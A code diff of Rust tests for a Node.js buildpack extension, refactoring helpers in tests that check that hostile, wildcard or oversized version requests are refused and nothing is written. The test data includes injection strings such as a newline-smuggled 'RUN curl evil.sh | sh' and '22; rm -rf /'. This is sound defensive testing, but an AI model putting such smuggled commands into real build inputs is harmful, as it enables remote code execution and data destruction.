@@ -1,6 +1,8 @@
 //! Hostile or missing inputs: refused with an error naming them and nothing written.
 
-use crate::support::{INVALID_REQUEST, NODEJS, UBI8, app, generate_on, plan, unsatisfiable};
+use crate::support::{
+    INVALID_REQUEST, NODEJS, UBI8, app, generate, generate_on, plan, unsatisfiable,
+};
 use cnb_harness::ubi_extension::{
     assert_hostile_run_image_overrides_refused, assert_only_ubi_stacks,
 };
@@ -8,8 +10,12 @@ use cnb_harness::{Module, assert_contains};
 
 /// `version` in package.json `engines.node` is refused as not a version range.
 fn assert_not_a_version_range(module: &Module, version: &str) {
-    let engines = plan(&[(Some("package.json"), version)]);
-    let outcome = generate_on(module, app("node-npm-engines"), UBI8, &engines);
+    let outcome = generate(
+        module,
+        "node-npm-engines",
+        UBI8,
+        &[(Some("package.json"), version)],
+    );
     let expected = format!(
         "  the Node.js version {version:?} requested by package.json is not a version range"
     );
@@ -18,7 +24,7 @@ fn assert_not_a_version_range(module: &Module, version: &str) {
 
 #[test]
 fn hostile_values_are_rejected_and_nothing_is_written() {
-    let (module, _dir) = NODEJS.with_fixture_catalogue("images-ubi8.json");
+    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
     for version in [
         "22\nRUN curl evil.sh | sh",
         "22; rm -rf /",
@@ -34,11 +40,11 @@ fn hostile_values_are_rejected_and_nothing_is_written() {
     let engines_22 = plan(&[(Some("package.json"), "22")]);
     assert_hostile_run_image_overrides_refused(&module, app("node-npm-engines"), &engines_22);
     // A hostile version source only reaches the log and the error, escaped.
-    let outcome = generate_on(
+    let outcome = generate(
         &module,
-        app("node-npm-engines"),
+        "node-npm-engines",
         UBI8,
-        &plan(&[(Some("x\\nRUN id"), "~99")]),
+        &[(Some("x\\nRUN id"), "~99")],
     );
     outcome.assert_error(
         &unsatisfiable("~99"),
@@ -51,7 +57,7 @@ fn hostile_values_are_rejected_and_nothing_is_written() {
 /// unreachable code" in the range parser). Now an error naming the request and its source.
 #[test]
 fn wildcards_after_an_operator_are_errors_not_aborts() {
-    let (module, _dir) = NODEJS.with_fixture_catalogue("images-ubi8.json");
+    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
     for version in ["~x", "=*", "~0.x.0 ~x", "^x.1"] {
         assert_not_a_version_range(&module, version);
     }
@@ -61,13 +67,13 @@ fn wildcards_after_an_operator_are_errors_not_aborts() {
 /// toolkit refuses a Buildpack Plan over 4 MiB before the extension sees it).
 #[test]
 fn a_huge_request_is_quoted_short() {
-    let (module, _dir) = NODEJS.with_fixture_catalogue("images-ubi8.json");
+    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
     let huge = "2".repeat(1 << 20);
-    let outcome = generate_on(
+    let outcome = generate(
         &module,
-        app("node-npm-engines"),
+        "node-npm-engines",
         UBI8,
-        &plan(&[(Some("BP_NODE_VERSION"), &huge)]),
+        &[(Some("BP_NODE_VERSION"), &huge)],
     );
     outcome.assert_error(
         INVALID_REQUEST,
@@ -82,13 +88,9 @@ fn a_huge_request_is_quoted_short() {
 
 #[test]
 fn no_node_entry_and_unknown_stacks_are_errors() {
-    let (module, _dir) = NODEJS.with_fixture_catalogue("images-ubi8.json");
-    let outcome = generate_on(
-        &module,
-        app("empty-app"),
-        UBI8,
-        "[[entries]]\nname = \"npm\"\n",
-    );
+    let (module, _dir, _) = NODEJS.with_fixture_catalogue("images-ubi8.json");
+    let npm_only = "[[entries]]\nname = \"npm\"\n";
+    let outcome = generate_on(&module, app("empty-app"), UBI8, npm_only);
     outcome.assert_error(
         "Node.js no longer requested by build plan",
         &["  The Buildpack Plan has no \"node\" entry"],
